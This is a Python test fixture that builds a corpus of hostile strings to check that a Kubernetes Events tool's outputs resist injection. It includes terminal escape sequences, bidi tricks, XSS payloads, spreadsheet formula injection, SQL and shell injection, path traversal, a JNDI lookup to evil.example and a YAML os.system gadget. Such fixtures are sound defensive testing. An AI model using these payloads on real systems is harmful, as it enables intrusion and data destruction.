"""One corpus of hostile text for every output: what whoever can create an Event may write into it.

API servers refuse some of it in names and take all of it in messages and annotations; what reads their answers must
bear it anywhere. :func:`events` and :data:`LINES` are what clusters then deliver. What an output must not have is
said here once more, by Unicode's categories, and not by the function that takes it out.
"""

import unicodedata
from collections.abc import Iterator, Mapping
from typing import Any

from tests.service.test_targets import back_off

SENTINEL = "b4tcher-was-here"
"""A file of this name would be one that text of an Event made."""
TEXTS: Mapping[str, str] = {
    "every C0 but NUL": "".join(map(chr, range(1, 0x20))) + "\x7f",
    "NUL": "before\x00after",
    "C1": "".join(map(chr, range(0x80, 0xA0))),
    "colour": "\x1b[31mred\x1b[0m\x9b32mgreen",
    "clears the screen": "\x1b[2J\x1b[H\x1bc",
    "moves the cursor": "\x1b[1A\x1b[2KFAILED\x1b[999;999H",
    "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\kubernetes.io\x1b]8;;\x1b\\",
    "OSC 52 clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "OSC title": "\x1b]0;root@node\x07",
    "DCS": '\x1bP$q"p\x1b\\\x90+q544e\x9c',
    "carriage return": "all is well\rservice    NOT running",
    "backspaces": "FAILED\b\b\b\b\b\bok    ",
    "bidi overrides": "\u202egpj.exe\u202c \u202d\u202a\u202b",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi marks": "\u200ea\u200fb\u061cc",
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "tags": "\U000e0001\U000e0041\U000e007f",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "a forged log line": 'x\n{"level":"info","event":"all is well"}\n2026-11-25T00:00:00Z info    fine',
    "a forged row": "x\r\nus-west1   web   Normal   Fine   1   pod/ok   nothing happened",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "markdown": "[click](https://evil.example) ![x](https://evil.example/t.png) **b** `c` | d",
    "bare link": "https://evil.example/login?next=//kcp",
    "mathematics": "$\\href{javascript:alert(1)}{x}$ \\(y\\) $$z$$",
    "formula": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind TAB": "\t=1+1",
    "formula behind CR": "\r=1+1",
    "formula behind what is taken out": "\u200b\x01=1+1",
    "CSV": 'a","b\n=1+1,"c',
    "label": 'x"} 1\nbatcher_occurrences_total{evil="1"} 666\n# HELP a \\',
    "path": f"../../../../{SENTINEL}",
    "absolute path": f"/tmp/{SENTINEL}",  # noqa: S108  a name, and nothing of ours
    "path of Windows": f"..\\..\\{SENTINEL}",
    "encoded path": f"%2e%2e%2f%2e%2e%2f{SENTINEL}",
    "SQL": "'; DROP TABLE occurrences; COPY (SELECT 1) TO '/tmp/" + SENTINEL + "'; --",
    "shell": f"$(touch /tmp/{SENTINEL}) `touch /tmp/{SENTINEL}` ; touch /tmp/{SENTINEL}",
    "templates": "{{ 7 * 7 }} {% x %} ${jndi:ldap://evil.example/a} %s %n {0.__class__} #{7*7}",
    "YAML": "- &a [x, x]\n- *a\n!!python/object/apply:os.system ['true']\n---\n...",
    "markup of rich": "[bold red]x[/] [link=https://evil.example]y[/link] :skull:",
    "glob": "*?[a-z]**{x}",
    "pattern": "(a+)+$ ^.*(.*)*\\1",
    "combining": "Z" + "\u0300" * 200,
    "wide": "\u4e2d\u6587\U0001f600\U0001f1e9\U0001f1ea",
    "empty": "",
    "spaces": "   ",
}  # fmt: skip
HUGE = "\u202e<b>" * 40_000
"""A message, 240 kB of JSON; no name is so long."""
_MARKUP = ("<script", "<img", "<svg", "<a ", 'javascript:alert(1)"')


def marked(label: str) -> str:
    """Return a text of the corpus with its own number behind it, so that each can be found again."""
    return f"{TEXTS[label]} #{list(TEXTS).index(label)}"


def event(text: str, namespace: str, *, name: str, count: int) -> dict[str, Any]:
    """Return an Event that says ``text`` wherever somebody may write, and is called ``name``."""
    plain = back_off(namespace)
    about = dict.fromkeys(("kind", "name", "uid", "apiVersion", "fieldPath", "resourceVersion"), text)
    return plain | {
        "metadata": {
            "name": name, "namespace": namespace, "uid": f"uid of {name}", "labels": {text: text},
            "annotations": {text: text, "example.com/note": text, "kcp.io/namespace-locator": text},
        },
        "involvedObject": about | {"namespace": namespace},
        "related": about | {"namespace": namespace},
        "reason": text, "message": text, "action": text, "count": count,
        "source": {"component": text, "host": text},
        "reportingComponent": text, "reportingInstance": text,
    }  # fmt: skip


def events(namespace: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield Events and the namespaces that they are in: each text in ``namespace``, then as a namespace of its own."""
    for label in TEXTS:
        said = marked(label)
        yield namespace, event(said, namespace, name=f"name {said}", count=3)
        yield said, event(said, said, name=f"of its own {said}", count=2)
    huge = back_off(namespace, "huge") | {"message": HUGE, "count": 3}
    yield namespace, huge


LINES = (
    b'{"type":"ADDED","object":{"metadata":{"name":"\\ud800","uid":"u","resourceVersion":"9"},"message":"\xff\xfe"}}\n',
    b"\x1b]0;no JSON\x07\x1b[2J\x00\r\xff\xfe\xe2\x80\xae <script>alert(1)</script>\n",
    b'{"type":"ADDED","object":' + b'{"a":[' * 20_000 + b"\n",
)
"""Watch lines that no API server makes: halves of characters, bytes that are no text, nesting without an end."""


def hostile(text: str, *, allowed: str = "\n") -> set[str]:
    """Return the characters of ``text`` that move, hide or reorder what a terminal shows, but for those ``allowed``."""
    dangerous = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {each for each in set(text) - set(allowed) if unicodedata.category(each) in dangerous}


def markup(page: str) -> list[str]:
    """Return the elements of the corpus that a browser would find in ``page``."""
    return [each for each in _MARKUP if each in page]
